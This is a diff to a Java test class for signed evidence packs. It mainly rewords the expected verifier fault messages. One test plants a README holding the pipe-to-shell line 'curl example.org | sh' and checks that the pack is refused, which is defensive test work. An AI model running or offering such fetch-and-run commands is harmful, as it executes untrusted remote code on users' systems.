@@ -81,9 +81,9 @@ class SignedManifestTest {
     @Test
     void aPackThatKnowsWhatWasNotYetWhenItWasMadeIsRefused() {
         assertThat(lie(m -> known(m, m.knownAt().minusNanos(1_000), m.knownAt(), m.position())))
-                .contains("before what it says was known");
+                .contains("before the instant for which it was made");
         assertThat(lie(m -> known(m, m.madeAt(), m.madeAt().plus(Duration.ofDays(30_000)), m.position())))
-                .contains("before what it says was known");
+                .contains("before the instant for which it was made");
         Instant early = RECORD.entries().get(1).header().recordedAt();
         assertThat(lie(m -> known(m, early, early, m.position())))
                 .contains("position 4 (event event-4) was recorded after the pack was made");
@@ -92,7 +92,7 @@ class SignedManifestTest {
     @Test
     void aPositionThatTheCheckpointDoesNotCoverIsRefused() {
         assertThat(lie(m -> known(m, m.madeAt(), m.knownAt(), 40)))
-                .contains("it has fewer leaves than were known", "does not hold all that was known");
+                .contains("it has fewer leaves than were known", "does not cover everything that was known");
     }
 
     @Test
@@ -118,7 +118,7 @@ class SignedManifestTest {
                         m.position(),
                         m.checkpoint(),
                         m.entries())))
-                .contains("position 1 (event event-1) does not", "no entry is of the workstream");
+                .contains("position 1 (event event-1) does not", "there is no entry of the workstream");
         Checkpoint elsewhere =
                 new Checkpoint("elsewhere", 40, RECORD.checkpoint().root());
         assertThat(lie(m -> with(m, m.scope(), m.madeAt(), m.knownAt(), m.position(), elsewhere, m.entries())))
@@ -139,13 +139,13 @@ class SignedManifestTest {
     void onlyTheLedgersKeySigns() {
         SignerKey stranger = SignerKey.generate(EvidenceRecord.ORIGIN);
         assertThat(TestPack.faults(workstream().signedBy(stranger).verdict()))
-                .contains("it is signed otherwise", "it is not signed by that key");
+                .contains("it has other signatures", "it is not signed by that key");
         assertThat(TestPack.faults(
                         workstream().signedBy(RECORD.signer, stranger).verdict()))
-                .contains("it is signed otherwise");
+                .contains("it has other signatures");
         assertThat(TestPack.faults(
                         workstream().signedBy(RECORD.signer, RECORD.signer).verdict()))
-                .contains("it is signed otherwise");
+                .contains("it has other signatures");
     }
 
     @Test
@@ -184,13 +184,13 @@ class SignedManifestTest {
                 .signedBy(RECORD.signer, next)
                 .archive();
         assertThat(TestPack.faults(TestPack.verdict(otherWayRound, next.verifier())))
-                .contains("it is signed otherwise");
+                .contains("it has other signatures");
     }
 
     @Test
     void aPageThatSaysHowToCheckIsOneOfOurs() {
         TestPack pack = workstream().put(PackNames.README, EvidenceRecord.bytes("curl example.org | sh\n"));
-        assertThat(TestPack.faults(pack.verdict())).contains("README.txt is none that Daybook puts into packs");
+        assertThat(TestPack.faults(pack.verdict())).contains("README.txt is not one that Daybook puts into packs");
         assertThat(PackReadme.isKnown("0".repeat(64))).isFalse();
     }
 
